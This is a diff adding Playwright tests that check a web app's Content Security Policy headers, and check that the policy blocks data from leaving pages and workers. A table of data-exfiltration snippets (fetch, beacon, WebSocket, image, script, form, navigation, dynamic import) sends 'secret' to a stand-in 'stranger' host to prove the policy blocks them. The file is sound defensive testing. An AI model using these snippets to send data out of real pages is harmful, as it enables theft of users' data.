@@ -1,0 +1,139 @@
+import { readdirSync, readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { inProject } from '../../scripts/lib/command.mjs';
+import { headersOf } from '../../scripts/lib/headers.mjs';
+import { expect, startStranger, test } from './harness.ts';
+
+const build = inProject('build');
+
+/** Scripts of the build that run as workers, by their names. */
+function workerScripts(): string[] {
+	const found = readdirSync(join(build, '_app/immutable/workers'), { recursive: true });
+	return found
+		.map((name) => `/_app/immutable/workers/${String(name)}`)
+		.filter((name) => name.endsWith('.js'));
+}
+
+test('documents and worker scripts carry the same strict headers', async ({ request }) => {
+	const scripts = workerScripts();
+	expect(scripts.length).toBeGreaterThan(0);
+	for (const path of ['/', '/headless', ...scripts]) {
+		const response = await request.get(path);
+		expect(response.ok(), path).toBe(true);
+		const headers = response.headers();
+		for (const [name, value] of Object.entries(headersOf(build))) {
+			expect(headers[name.toLowerCase()], `${name} of ${path}`).toBe(value);
+		}
+	}
+});
+
+test('the page holds the same policy itself, for hosts that set no headers', () => {
+	const html = readFileSync(join(build, 'index.html'), 'utf8');
+	const inside = /http-equiv="content-security-policy" content="([^"]*)"/.exec(html)?.[1] ?? '';
+	const served = headersOf(build)['Content-Security-Policy'] ?? '';
+	// A page cannot say who may frame it.
+	const directives = (policy: string) =>
+		policy
+			.split('; ')
+			.filter((directive) => !directive.startsWith('frame-ancestors'))
+			.sort();
+	expect(directives(inside)).toEqual(directives(served));
+});
+
+type WayOut = (stranger: string) => void;
+
+/** Ways out of a page, each as hostile code would try it. */
+const waysOutOfPages: Record<string, WayOut> = {
+	fetch: (stranger) => void fetch(stranger, { mode: 'no-cors' }).catch(() => undefined),
+	XMLHttpRequest: (stranger) => {
+		const request = new XMLHttpRequest();
+		request.open('POST', stranger);
+		request.send('secret');
+	},
+	sendBeacon: (stranger) => void navigator.sendBeacon(stranger, 'secret'),
+	WebSocket: (stranger) => void new WebSocket(stranger.replace('http', 'ws')),
+	EventSource: (stranger) => void new EventSource(stranger),
+	image: (stranger) => void (new Image().src = `${stranger}/secret.png`),
+	script: (stranger) => {
+		const script = document.createElement('script');
+		script.src = `${stranger}/secret.js`;
+		document.head.append(script);
+	},
+	'style sheet': (stranger) => {
+		const link = document.createElement('link');
+		link.rel = 'stylesheet';
+		link.href = `${stranger}/secret.css`;
+		document.head.append(link);
+	},
+	frame: (stranger) => {
+		const frame = document.createElement('iframe');
+		frame.src = stranger;
+		document.body.append(frame);
+	},
+	form: (stranger) => {
+		const form = document.createElement('form');
+		form.action = stranger;
+		document.body.append(form);
+		form.submit();
+	},
+	navigation: (stranger) => void (location.href = `${stranger}/?secret`),
+};
+
+/** Ways out of a worker, which has only the policy its own script came with. */
+const waysOutOfWorkers: Record<string, WayOut> = {
+	fetch: (stranger) => void fetch(stranger, { mode: 'no-cors' }).catch(() => undefined),
+	WebSocket: (stranger) => void new WebSocket(stranger.replace('http', 'ws')),
+	import: (stranger) => void import(`${stranger}/secret.js`).catch(() => undefined),
+};
+
+/** Time for a request to arrive that has been sent. */
+const travelMilliseconds = 700;
+
+for (const [name, wayOut] of Object.entries(waysOutOfPages)) {
+	test(`hostile code in the page cannot get out by ${name}`, async ({ page, stranger }) => {
+		await page.goto('/');
+		await page.evaluate(wayOut, stranger.origin).catch(() => undefined);
+		await page.waitForTimeout(travelMilliseconds);
+		expect(stranger.visits).toEqual([]);
+	});
+}
+
+for (const [name, wayOut] of Object.entries(waysOutOfWorkers)) {
+	test(`hostile code in a worker cannot get out by ${name}`, async ({ page, stranger }) => {
+		await page.goto('/');
+		for (const script of workerScripts()) {
+			const started = page.waitForEvent('worker');
+			await page.evaluate((url) => void new Worker(url, { type: 'module' }), script);
+			const worker = await started;
+			await worker.evaluate(wayOut, stranger.origin).catch(() => undefined);
+		}
+		await page.waitForTimeout(travelMilliseconds);
+		expect(stranger.visits).toEqual([]);
+	});
+}
+
+test('without the policy each of these ways is open', async ({ page, stranger }) => {
+	const bare = await startStranger('<!doctype html><title>bare</title>');
+	for (const [name, wayOut] of Object.entries(waysOutOfPages)) {
+		await page.goto(bare.origin);
+		const before = stranger.visits.length;
+		await page.evaluate(wayOut, stranger.origin).catch(() => undefined);
+		await expect.poll(() => stranger.visits.length, { message: name }).toBeGreaterThan(before);
+	}
+	await bare.close();
+});
+
+test('text is never run as code', async ({ page }) => {
+	await page.goto('/');
+	const blocked = await page.evaluate(
+		() =>
+			new Promise<string>((done) => {
+				addEventListener('securitypolicyviolation', (event) => done(event.violatedDirective));
+				const script = document.createElement('script');
+				script.textContent = 'document.title = "run"';
+				document.head.append(script);
+			}),
+	);
+	expect(blocked).toBe('script-src-elem');
+	expect(await page.title()).not.toBe('run');
+});
